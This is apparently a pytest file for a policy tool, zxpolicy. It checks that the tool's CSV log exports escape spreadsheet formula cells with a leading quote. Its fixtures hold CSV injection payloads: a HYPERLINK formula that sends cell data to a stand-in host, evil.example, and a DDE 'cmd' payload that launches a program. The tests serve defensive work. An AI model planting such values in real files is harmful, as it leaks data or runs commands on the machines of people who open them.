"""CSV formula injection: every CSV zxpolicy writes escapes a cell that a spreadsheet would take
for a formula (it starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return) with a
leading single quote, OWASP's rule. The ids in the log come from the hosts' requests."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner

import zxpolicy
from zxpolicy.cli import main
from zxpolicy.log import (
    LogRecord,
    csv_cell,
    csv_text,
    monthly_report,
    open_log,
    review_settings,
)
from zxpolicy.log._record import utc_text

from ..conftest import AT, POLICIES

FORMULA = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "subject_id": "=1+2",
    "subject_org": '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "customer_id": "+cmd|' /C calc'!A0",
    "purpose": "-2+3",
    "decision_id": "@SUM(A1:A9)",
    "codes": ("\tconsent_missing",),
}


def _record(i: int, **hostile: object) -> LogRecord:
    fields: dict[str, object] = {
        "decision_id": f"d-{i}", "at": utc_text(AT), "logged_at": utc_text(AT),
        "subject_id": "u-query-east1", "subject_org": "east-1", "action": "query", "resource_id": f"r-{i}",
        "resource_kind": "credit_report", "resource_level": "ordinary", "resource_org": "east-1",
        "customer_id": "c-1", "purpose": "loan_review", "consent_id": None, "approvals": (), "evidence_keys": (),
        "allowed": False, "codes": ("consent_missing",), "obligations": (), "policy_version": "sha256:0",
    }
    fields.update(hostile)
    return LogRecord(**fields)  # type: ignore[arg-type]


@pytest.fixture
def hostile_log(tmp_path: Path) -> Path:
    db = tmp_path / "d.db"
    store = open_log(db)
    store.write_many([_record(0), *(_record(i, **{k: v}) for i, (k, v) in enumerate(HOSTILE.items(), 1)),
                      _record(99, decision_id="\r=1+2", customer_id="\r-1")])
    store.close()
    return db


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA), (cell, row)


@pytest.mark.parametrize("value", ["=1+2", "+1", "-1", "@A1", "\t=1", "\r=1", '=HYPERLINK("http://x","y")'])
def test_a_formula_like_cell_gets_a_quote(value: str) -> None:
    assert csv_cell(value) == "'" + value
    assert _cells(csv_text([[value]])) == [["'" + value]]


@pytest.mark.parametrize("value", ["c-1", "1-2", "a=b", "", "'=x", " =1", "征信"])
def test_other_cells_are_written_as_they_are(value: str) -> None:
    assert csv_cell(value) == value
    assert csv_cell(None) == "" and csv_cell(3) == "3"


@pytest.mark.parametrize("mask", [False, True], ids=["plain", "masked"])
def test_daily_check_csv_escapes_hostile_ids(hostile_log: Path, mask: bool) -> None:
    args = ["log", "daily-check", str(hostile_log), "--date", "2026-11-27", "--policy", str(POLICIES), "--csv"]
    r = CliRunner().invoke(main, args + (["--mask"] if mask else []))
    assert r.exit_code == 1, r.output  # every query is flagged (denied)
    rows = _cells(r.stdout)
    _assert_safe(rows)
    assert len(rows) == 1 + 1 + len(HOSTILE) + 1 + 1  # the header, the records, the head last
    assert rows[-1][0] == "head"
    flat = {cell for row in rows for cell in row}
    for key, value in HOSTILE.items():
        shown = value[0] if isinstance(value, tuple) else value
        if key == "customer_id" and mask:
            shown = shown[:2] + "*" * (len(shown) - 4) + shown[-2:]
        assert "'" + shown in flat, key
    assert "'\r=1+2" in flat  # a carriage return first: the cell is quoted and kept whole


def test_monthly_report_csv_escapes_hostile_orgs(hostile_log: Path) -> None:
    settings = review_settings(zxpolicy.load(POLICIES).document)
    store = open_log(hostile_log, read_only=True)
    try:
        report = monthly_report(store, settings, 2026, 11, {"illegal_provision": 0, "misuse": 0, "report_leak": 0})
    finally:
        store.close()
    assert HOSTILE["subject_org"] in report.by_org
    for lang in ("zh", "en"):
        rows = _cells(report.csv(lang))
        _assert_safe(rows)
        assert "'" + str(HOSTILE["subject_org"]) in [row[0] for row in rows]
    r = CliRunner().invoke(main, ["log", "monthly-report", str(hostile_log), "--month", "2026-11", "--policy",
                                  str(POLICIES), "--csv", "--count", "illegal_provision=0", "--count", "misuse=0",
                                  "--count", "report_leak=0"])
    assert r.exit_code == 0, r.output
    _assert_safe(_cells(r.stdout))
    assert r.stdout == report.csv("zh").replace("\r\n", "\n")  # the runner reads it in text mode
